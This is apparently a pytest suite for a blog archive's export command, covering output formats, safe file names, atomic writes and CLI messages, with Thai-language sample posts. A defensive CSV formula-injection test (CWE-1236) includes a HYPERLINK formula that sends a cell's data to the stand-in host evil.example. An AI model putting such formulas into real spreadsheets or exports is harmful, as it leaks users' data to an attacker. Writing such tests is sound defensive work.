"""archive.export: every format, safe and unique file names, streaming with filters."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from archive import export, export_files, export_render
from archive.connection import open_archive
from archive.errors import ExportError
from archive.models import Post
from archive.posts import mark_gone, upsert_post
from tests.conftest import invoke_goahead


def post(post_id: str, **changes) -> Post:
    values = {
        "blog_id": "9", "post_id": post_id, "site": "n.blogspot.com",
        "url": f"https://n.blogspot.com/2024/01/story-{post_id}.html",
        "title": f"ข่าว {post_id}", "author": "สมชาย", "labels": ["ข่าว", "a;b"],
        "text": "ย่อหน้าแรก\n\nsecond paragraph", "html": "<p>x</p>",
        "published": f"2024-01-0{post_id}T10:00:00+07:00", "images": ["https://i/1.jpg"],
        "warc_file": "a.warc.gz", "warc_offset": 7, "fetched_at": "2024-02-01T00:00:00Z",
    }
    values.update(changes)
    return Post(**values)


@pytest.fixture
def db(tmp_path):
    database = open_archive(tmp_path / "a.db")
    for post_id in "123":
        upsert_post(database, post(post_id))
    upsert_post(database, post("4", site="other.blogspot.com", text="ผ้าไหม"))
    yield database
    database.close()


def test_formats_constant():
    assert export.FORMATS == ("txt", "jsonl", "csv", "md")


def test_jsonl_round_trips_every_field(db, tmp_path):
    out = tmp_path / "posts.jsonl"
    assert export.export(db, "jsonl", out) == 4
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["post_id"] for r in rows] == ["1", "2", "3", "4"]
    assert rows[0]["labels"] == ["ข่าว", "a;b"]
    assert set(export.FIELDS) == set(rows[0])
    assert rows[0]["warc_offset"] == 7


def test_csv_labels_are_json(db):
    stream = io.StringIO()
    assert export.export(db, "csv", stream, site="n.blogspot.com") == 3
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert len(rows) == 3
    assert json.loads(rows[0]["labels"]) == ["ข่าว", "a;b"]
    assert rows[0]["text"] == "ย่อหน้าแรก\n\nsecond paragraph"


def test_query_and_progress(db):
    seen: list[int] = []
    stream = io.StringIO()
    assert export.export(db, "jsonl", stream, query="ผ้า", progress=seen.append) == 1
    assert json.loads(stream.getvalue())["post_id"] == "4"
    assert seen == [1]


def test_a_post_gone_from_the_blog_is_marked_in_every_format(db, tmp_path):
    """--include-deleted says which posts are gone, in every format; live posts say null."""
    mark_gone(db, post("2").url, at="2026-11-30T08:00:00Z")
    assert export.export(db, "jsonl", io.StringIO()) == 3  # gone: left out by default
    stream = io.StringIO()
    assert export.export(db, "jsonl", stream, include_deleted=True) == 4
    lines = stream.getvalue().splitlines()
    rows = {r["post_id"]: r["deleted_at"] for r in map(json.loads, lines)}
    assert rows == {"1": None, "2": "2026-11-30T08:00:00Z", "3": None, "4": None}
    stream = io.StringIO()
    export.export(db, "csv", stream, include_deleted=True)
    assert [r["deleted_at"] for r in csv.DictReader(io.StringIO(stream.getvalue()))] == [
        "", "2026-11-30T08:00:00Z", "", ""]
    export.export(db, "md", tmp_path / "md", include_deleted=True)
    fronts = {p.name: yaml.safe_load(p.read_text(encoding="utf-8").split("---")[1])
              for p in (tmp_path / "md").rglob("*.md")}
    assert {name: f["deleted_at"] for name, f in fronts.items()}["2024-01-02-ข่าว-2.md"] == (
        "2026-11-30T08:00:00Z")
    assert sum(f["deleted_at"] is None for f in fronts.values()) == 3
    for fmt, out in (("txt", tmp_path / "all.txt"), ("md", tmp_path / "all.md")):
        export.export(db, fmt, out, include_deleted=True)
        text = out.read_text(encoding="utf-8").replace("\\[", "[").replace("\\]", "]")
        assert text.count("[deleted 2026-11-30]") == 1, fmt


def test_md_files_have_front_matter(db, tmp_path):
    assert export.export(db, "md", tmp_path / "md") == 4
    names = sorted(p.name for p in (tmp_path / "md" / "n.blogspot.com").iterdir())
    assert names == ["2024-01-01-ข่าว-1.md", "2024-01-02-ข่าว-2.md", "2024-01-03-ข่าว-3.md"]
    assert [p.name for p in (tmp_path / "md" / "other.blogspot.com").iterdir()] == [
        "2024-01-04-ข่าว-4.md"]
    text = (tmp_path / "md" / "n.blogspot.com" / names[0]).read_text(encoding="utf-8")
    _, front, body = text.split("---\n", 2)
    meta = yaml.safe_load(front)
    assert meta == {
        "title": "ข่าว 1", "post_id": "1", "blog_id": "9", "site": "n.blogspot.com",
        "kind": "post", "url": "https://n.blogspot.com/2024/01/story-1.html", "lang": None,
        "labels": ["ข่าว", "a;b"], "author": "สมชาย", "published": "2024-01-01T10:00:00+07:00",
        "updated": None, "fetched_at": "2024-02-01T00:00:00Z", "warc_file": "a.warc.gz",
        "warc_offset": 7, "warc_length": None, "deleted_at": None}
    assert body.startswith("\n# ข่าว 1\n\nx\n")  # the body is the clean HTML's


def test_txt_directory_and_single_file(db, tmp_path):
    assert export.export(db, "txt", tmp_path / "txt") == 4
    assert len(list((tmp_path / "txt").glob("*/*.txt"))) == 4  # a folder per site
    single = tmp_path / "all.txt"
    assert export.export(db, "txt", single) == 4
    parts = single.read_text(encoding="utf-8").split(export.TXT_DELIMITER)
    assert len(parts) == 4
    assert parts[0].startswith("ข่าว 1\nhttps://n.blogspot.com/2024/01/story-1.html")


def test_clashing_names_become_unique(tmp_path):
    db = open_archive(tmp_path / "a.db")
    for post_id in ("1", "2", "3"):
        upsert_post(db, post(post_id, url="https://n.blogspot.com/p/CON.html",
                                   published="2024-05-05T00:00:00Z"))
    export.export(db, "md", tmp_path / "out")
    names = sorted(p.name for p in (tmp_path / "out" / "n.blogspot.com").iterdir())
    assert names == ["2024-05-05-ข่าว-1.md", "2024-05-05-ข่าว-2.md", "2024-05-05-ข่าว-3.md"]
    for post_id in ("4", "5"):  # no title: the URL's name; a reserved one: the post id
        upsert_post(db, post(post_id, url="https://n.blogspot.com/p/CON.html", title="",
                                   published="2024-05-05T00:00:00Z"))
    export.export(db, "md", tmp_path / "again")
    names = sorted(p.name for p in (tmp_path / "again" / "n.blogspot.com").iterdir())
    assert names[:2] == ["2024-05-05-4.md", "2024-05-05-5.md"]


def test_bad_targets(db, tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportError):
        export.export(db, "md", tmp_path / "file")
    with pytest.raises(ExportError, match="cannot write"):
        export.export(db, "jsonl", tmp_path / "file" / "x.jsonl")
    with pytest.raises(ExportError, match="unknown format"):
        export.export(db, "xml", tmp_path / "x.xml")


@settings(max_examples=200, deadline=None)
@given(url=st.text(max_size=300), title=st.text(max_size=300),
       published=st.none() | st.text(max_size=12))
def test_file_names_are_safe(url, title, published):
    stem = export_files.file_stem(Post(blog_id="1", post_id="1", url=url, site="s",
                                 title=title, published=published))
    assert stem == Path(stem).name
    assert ".." not in stem
    assert not any(ch in stem for ch in '/\\:*?"<>|\0')
    assert len(stem.encode("utf-8")) <= 200
    assert stem.split("-", 1)[0].isdigit() or stem.startswith("undated-")


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_front_matter_strings_parse_back(value):
    assert yaml.safe_load(f"k: {export_render.yaml_string(value)}") == {"k": value}


# -- CSV cells a spreadsheet would run (CWE-1236) -------------------------------------------

FORMULAS = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "author": "@SUM(1,2)",
            "text": "-5 องศา\n\nหนาวที่สุด", "language": "+th"}


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(db):
    upsert_post(db, post("5", **FORMULAS))
    stream = io.StringIO()
    export.export(db, "csv", stream, site="n.blogspot.com")
    row = next(r for r in csv.DictReader(io.StringIO(stream.getvalue())) if r["post_id"] == "5")
    assert {name: row[name] for name in FORMULAS} == {
        name: "'" + value for name, value in FORMULAS.items()}
    assert row["url"] == "https://n.blogspot.com/2024/01/story-5.html"  # the rest as stored
    assert row["warc_offset"] == "7"


def test_raw_csv_and_jsonl_keep_cells_as_archived(db):
    upsert_post(db, post("5", **FORMULAS))
    raw = io.StringIO()
    export.export(db, "csv", raw, site="n.blogspot.com", raw_csv=True)
    row = next(r for r in csv.DictReader(io.StringIO(raw.getvalue())) if r["post_id"] == "5")
    assert {name: row[name] for name in FORMULAS} == FORMULAS
    lines = io.StringIO()
    export.export(db, "jsonl", lines, site="n.blogspot.com")
    record = next(json.loads(line) for line in lines.getvalue().splitlines()
                  if json.loads(line)["post_id"] == "5")
    assert {name: record[name] for name in FORMULAS} == FORMULAS


class Interrupted(BaseException):
    """Ctrl-C (KeyboardInterrupt) half-way through an export, without pytest's handling."""


@pytest.mark.parametrize("name", ["posts.jsonl", "posts.csv", "posts.md", "posts.txt"])
def test_a_stopped_export_leaves_the_earlier_file_as_it_was(db, tmp_path, name):
    out = tmp_path / name
    out.write_text("the earlier export\n", encoding="utf-8")

    def stop(done: int) -> None:
        raise Interrupted

    fmt = name.rsplit(".", 1)[1]
    with pytest.raises(Interrupted):
        export.export(db, fmt, out, progress=stop)
    assert out.read_text(encoding="utf-8") == "the earlier export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(("posts", ".posts"))] \
        == [name]  # no partial file left beside it
    assert export.export(db, fmt, out) == 4
    assert "the earlier export" not in out.read_text(encoding="utf-8")


def test_an_export_over_a_file_says_it_replaced_it(db, tmp_path):
    out = tmp_path / "posts.csv"
    args = ("export", "--db", str(tmp_path / "a.db"), "--out", str(out))
    assert invoke_goahead(*args).stderr == f"exported 4 posts to {out}\n"
    again = invoke_goahead(*args)
    assert again.stderr == f"exported 4 posts to {out} (it replaced the file that was there)\n"


def test_an_export_of_one_post_says_one_post(db, tmp_path):
    out = tmp_path / "one.md"
    done = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out", str(out),
                          "--site", "other.blogspot.com")
    assert done.stderr == f"exported 1 post to {out}\n"  # was "exported 1 posts"


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write a read-only file")
def test_an_export_never_replaces_a_read_only_file(db, tmp_path):
    out = tmp_path / "posts.csv"
    out.write_text("kept\n", encoding="utf-8")
    out.chmod(0o444)
    refused = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out", str(out))
    assert refused.returncode == 1
    assert refused.stderr == f"Error: cannot write {out}: Permission denied\n"
    assert out.read_text(encoding="utf-8") == "kept\n"


def test_an_export_whose_query_matches_nothing_says_so(db, tmp_path):
    """Not an empty stdout and exit 0 with no word, as if the archive had been exported."""
    args = ("export", "--db", str(tmp_path / "a.db"), "--query")
    result = invoke_goahead(*args, "ไม่มีคำนี้")
    assert (result.returncode, result.stdout) == (0, "")
    assert result.stderr == "note: no post matches 'ไม่มีคำนี้'; nothing was exported\n"
    narrowed = invoke_goahead(*args, "ผ้า", "--site", "n.blogspot.com")
    assert narrowed.stderr == "note: 1 post matches 'ผ้า' without --site\n"


@pytest.mark.parametrize("suffix", ["", "-wal"])
def test_an_export_never_writes_over_its_own_archive(db, tmp_path, suffix):
    """--out naming the archive (a slip of the shell's history) destroyed it."""
    archive = tmp_path / "a.db"
    before = archive.stat().st_size
    result = invoke_goahead("export", "--db", str(archive), "--format", "jsonl",
                            "--out", f"{archive}{suffix}")
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (f"Error: --out {archive}{suffix} is a file this command reads "
                             "(give another file name)\n")
    assert archive.stat().st_size == before
    assert export.export(db, "jsonl", io.StringIO()) == 4


def test_an_export_over_a_file_keeps_its_permissions(db, tmp_path):
    """Written beside and renamed over it, the export keeps the mode of the file it
    replaces: a private export (0600) does not become readable by all."""
    out = tmp_path / "private.jsonl"
    out.write_text("", encoding="utf-8")
    out.chmod(0o600)
    assert export.export(db, "jsonl", out) == 4
    assert out.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_out_written_as_a_directory_is_not_made_a_file(db, tmp_path, fmt):
    """``--out posts/`` (a directory, as for md) with a one-file format was written as a
    file named ``posts``, and said ``exported 4 posts to posts/``."""
    out = f"{tmp_path / 'posts'}/"
    result = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--format", fmt,
                            "--out", out)
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (f"Error: --out {out} is a directory, and {fmt} is one file "
                             "(give a file name, or --format md or txt for a file per post)\n")
    assert not (tmp_path / "posts").exists()


def test_an_export_into_a_folder_says_how_many_files_it_replaced(db, tmp_path):
    out = tmp_path / "md"
    args = ("export", "--db", str(tmp_path / "a.db"), "--format", "md", "--out", str(out))
    assert invoke_goahead(*args).stderr == f"exported 4 posts to {out}\n"
    again = invoke_goahead(*args)
    assert again.stderr == f"exported 4 posts to {out} (it replaced 4 files that were there)\n"


def test_a_csv_cell_a_spreadsheet_would_cut_is_said_and_kept_whole(db, tmp_path):
    """Excel holds 32,767 characters in a cell and cuts a longer one when it opens the
    file, without a word: the export says which posts have such a cell."""
    long_text = "ข่าว " * 7000  # 35,000 characters
    upsert_post(db, post("5", text=long_text))
    out = tmp_path / "posts.csv"
    done = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert "warning: 1 post has a cell longer than a spreadsheet cell holds" in done.stderr
    assert "story-5.html" in done.stderr
    limit = csv.field_size_limit(10**6)  # Python's csv reads 131,072 at most by default
    try:
        with out.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.DictReader(stream))
    finally:
        csv.field_size_limit(limit)
    assert [r["text"] for r in rows if r["post_id"] == "5"] == [long_text]
    jsonl = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--format", "jsonl")
    assert "warning" not in jsonl.stderr  # jsonl has no cell limit


def test_out_dash_is_stdout(db, tmp_path, monkeypatch):
    """``--out -`` wrote a file named ``-``; it is stdout, as in most tools."""
    monkeypatch.chdir(tmp_path)
    done = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out", "-")
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 4  # jsonl, a line per post
    assert not (tmp_path / "-").exists()


def test_a_post_file_is_written_whole_or_not_at_all(db, tmp_path, monkeypatch):
    """A directory export stopped mid-file (a full disk, Ctrl-C) left that post's file cut
    short, in place of the earlier export's whole one."""
    folder = tmp_path / "md"
    assert export.export(db, "md", folder) == 4
    before = {p: p.read_text(encoding="utf-8") for p in folder.rglob("*.md")}
    real = Path.write_text

    def full_disk(self, text, *args, **kwargs):
        real(self, text[: len(text) // 2], *args, **kwargs)  # what fitted
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_text", full_disk)
    with pytest.raises(export.ExportError, match="No space left"):
        export.export(db, "md", folder)
    monkeypatch.undo()
    assert {p: p.read_text(encoding="utf-8") for p in folder.rglob("*.md")} == before
    assert not [p for p in folder.rglob("*") if p.name.endswith(".part")]


@pytest.mark.parametrize(("name", "says"), [
    ("posts.json", "JSON Lines is not one JSON document: name it posts.jsonl"),
    ("posts.xlsx", "goahead does not write .xlsx: name it posts.csv (--bom for Excel)"),
    ("posts.tsv", "goahead does not write .tsv: name it posts.csv"),
])
def test_an_out_name_of_a_format_it_does_not_write_is_refused(db, tmp_path, name, says):
    """`--out posts.xlsx` wrote JSON Lines into posts.xlsx, exit status 0 (any other
    extension fell back to jsonl): a file its own name misdescribes, which Excel or a JSON
    reader then refuses. Said before anything is written; --format jsonl still writes it."""
    out = tmp_path / name
    refused = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out", str(out))
    assert refused.returncode == 2
    assert refused.stderr.startswith(f"Error: --out {out}: {says}")
    assert len(refused.stderr.splitlines()) == 1
    assert not out.exists()
    forced = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out", str(out),
                            "--format", "jsonl")
    assert forced.returncode == 0
    assert len(out.read_text(encoding="utf-8").splitlines()) == 4
    for plain in ("posts", "posts.v2", "posts.ndjson"):  # no format named: jsonl, as before
        assert invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--out",
                              str(tmp_path / plain)).returncode == 0


@pytest.mark.parametrize("fmt", ["md", "txt"])
def test_an_empty_export_into_a_directory_leaves_that_directory(db, tmp_path, fmt):
    """'exported 0 posts to new-md/' (a date range with no posts: exit 0, a note) is true:
    the directory is there, empty, as an empty csv export leaves its file, so the step
    after it in a script (zip it, rsync it) finds it."""
    out = tmp_path / "new-out"
    done = invoke_goahead("export", "--db", str(tmp_path / "a.db"), "--format", fmt,
                          "--out", f"{out}/", "--since", "2030")
    assert done.returncode == 0
    assert f"exported 0 posts to {out}/" in done.stderr
    assert out.is_dir()
    assert list(out.iterdir()) == []


def test_a_file_written_whole_in_a_missing_folder_is_refused_before_any_work(tmp_path):
    """``index`` and ``wacz`` write through :func:`export.written_whole`: a folder that does
    not exist was found by the writer at the end, a traceback naming the hidden file beside
    --out; now an ExportError naming --out, before the block runs, and nothing left."""
    out = tmp_path / "no" / "index.cdxj"
    ran = []
    with (pytest.raises(ExportError, match=f"^cannot write {out}: No such file or directory$"),
          export.written_whole(out) as written):
        ran.append(written)
    assert ran == []
    with export.written_whole(tmp_path / "index.cdxj") as written:  # a folder there: as before
        written.write_text("x\n")
    assert [p.name for p in tmp_path.iterdir()] == ["index.cdxj"]


THAI_URL = "https://n.blogspot.com/2024/03/%E0%B8%82%E0%B9%88%E0%B8%B2%E0%B8%A7.html"


@pytest.mark.parametrize("fmt", ["txt", "md"])
def test_text_exports_show_a_thai_url_as_it_reads(tmp_path, fmt):
    """A Thai permalink read ``%E0%B8%82...`` in the txt file and the Markdown file's line
    under the title: shown in Thai there (a bidi override stays escaped), while the front
    matter, JSONL and CSV keep the URL the archive stores, as data."""
    db = open_archive(tmp_path / "a.db")
    upsert_post(db, post("1", url=THAI_URL))
    upsert_post(db, post("2", url="https://n.blogspot.com/2024/03/%E2%80%AEfdp.html"))
    out = tmp_path / f"all.{fmt}"
    assert export.export(db, fmt, out) == 2
    text = out.read_text(encoding="utf-8")
    assert "https://n.blogspot.com/2024/03/ข่าว.html" in text
    assert "%E2%80%AEfdp.html" in text
    assert "\u202e" not in text
    folder = tmp_path / "md"
    export.export(db, "md", folder)
    meta = yaml.safe_load((folder / "n.blogspot.com").glob("*-1.md").__next__()
                          .read_text(encoding="utf-8").split("---\n")[1])
    assert meta["url"] == THAI_URL
    for data in ("jsonl", "csv"):
        export.export(db, data, tmp_path / f"p.{data}")
        assert THAI_URL in (tmp_path / f"p.{data}").read_text(encoding="utf-8")
    db.close()
